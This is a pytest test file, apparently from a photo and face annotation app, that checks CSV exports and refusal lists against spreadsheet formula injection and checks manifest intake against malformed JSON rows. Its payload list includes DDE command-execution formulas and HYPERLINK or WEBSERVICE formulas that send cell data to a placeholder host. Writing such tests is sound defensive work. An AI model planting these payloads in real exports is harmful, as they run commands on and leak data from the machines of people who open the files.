"""Cells that a spreadsheet would compute: none leaves as a formula."""

import csv
import io
import json
from pathlib import Path

import pytest
from PIL import Image

from annotation import export, intake
from annotation.core.tables import csv_lines, inert
from annotation.models import Refusal
from tests.factories import a_face, a_person, a_photo, a_source, a_user
from tests.hostile.conftest import Tried

FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://x.example?\"&A1)", "=IMPORTXML(A1)"),
    *("=WEBSERVICE(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@=1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=1;2", "=\"x\"&A1"),
    *("＝1+1", "＋1", "－1", "＠SUM(1)", "=", "-", "+", "@", "=\n1", "==1", "=-1", "=@x", "-@x", "=<script>", "=RTD(1)"),
]  # fmt: skip
BEFORE = [
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "  ",
    "\v",
    "\f",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u200e",
    "\u200f",
    "\0",
    "\t \u00a0",
]
COMPUTED = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
INVISIBLE = "".join(set("".join(BEFORE)))


def computes(cell: str) -> bool:
    """Whether a spreadsheet would: by what it sees first, and by tab or line end, which some split cells at."""
    return cell.lstrip(INVISIBLE).startswith(COMPUTED) or (cell[:1] in "\t\r\n" and bool(cell))


def test_no_cell_of_any_table_is_a_formula(tried: Tried):
    for before in BEFORE:
        for formula in FORMULAS:
            (cell,) = next(csv.reader(io.StringIO(list(csv_lines(["x"], [[before + formula]]))[1], newline="")))
            tried(before + formula, through=computes(cell))
    assert inert(-3.5) == -3.5  # a number is one
    assert inert("Ada-Lovelace") == "Ada-Lovelace"


@pytest.mark.django_db
def test_no_cell_of_an_export_is_one(tried: Tried):
    some = FORMULAS[::2]
    for n, formula in enumerate(some):
        source = a_source(
            f"{formula[:40].replace('/', '').replace(chr(10), '')} {n}", licence=formula, legal_basis=formula
        )
        face = a_face(a_photo(source, file=formula, source_url=formula))
        a_person([face], name=formula.replace("\n", ""), by=a_user(f"{formula[:20]}{n}"))
    rows = list(csv.reader(io.StringIO("".join(export.csv_lines()), newline="")))
    assert len(rows) == len(some) + 1
    for row in rows:
        for cell in row:
            if not cell.lstrip("-").replace(".", "").isdecimal():
                tried(cell, through=computes(cell))


@pytest.mark.django_db
def test_no_cell_of_the_refusals_is_one(client: object, tried: Tried):
    source = a_source()
    for formula in FORMULAS:
        Refusal.objects.create(source=source, file=formula, code="damaged", reason=formula)
    client.force_login(a_user())  # type: ignore[attr-defined]
    response = client.get(f"/sources/{source.pk}/refusals.csv")  # type: ignore[attr-defined]
    text = b"".join(response.streaming_content).decode()
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            tried(cell, through=computes(cell))


@pytest.mark.django_db
def test_no_row_of_a_manifest_stops_the_intake(tmp_path: Path, tried: Tried):
    """Text that no database keeps, in any column and however deep, is that row's own fault."""
    odd = ["a\0b", "\ud800", "\udfff\ud800", "\udcff"]
    rows: list[dict[str, object]] = []
    for text in odd:
        for name in ("file", "caption", "name", "query", "source_url", "licence", "mood", "taken_at"):
            rows.append({"file": f"{len(rows)}.jpg"} | {name: text})
        rows += [{"file": "x.jpg", "more": {"a": [1, {"b": text}]}}, {"file": "y.jpg", text: "x"}]
    rows += [{"file": value} for value in (5, True, [], {}, None, ["x"], {"a": "b"}, 1e308)]
    lines = [json.dumps(each) for each in rows]
    lines += ['{"file": "z.jpg", "more": ' + "[" * depth + "]" * depth + "}" for depth in (100, 990, 50_000)]
    lines += [
        '{"file": "n.jpg", "more": NaN}',
        '{"file": "n.jpg", "more": 1e999}',
        "null",
        "[]",
        "5",
        '"x"',
        "{",
        "\x00",
    ]
    for n, name in enumerate(("good", "nan", "infinite")):
        Image.new("RGB", (40 + n, 30), (9, 80, 120)).save(tmp_path / f"{name}.png")
    lines.append('{"file": "infinite.png", "more": [1e999, NaN]}')
    (tmp_path / "m.jsonl").write_text("\n".join([*lines, '{"file": "nan.png", "size": NaN}']))
    with (tmp_path / "m.jsonl").open("a") as file:
        file.write('\n{"file": "good.png"}\n')
    delivery = intake.start_intake(source=a_source(), kind="manifest", path=str(tmp_path / "m.jsonl"), by=None)
    intake.take_in(delivery.pk)
    delivery.refresh_from_db()
    for line in lines:
        tried(line[:80], through=delivery.state != "done")
    assert (delivery.taken, delivery.refused) == (2, len(lines))
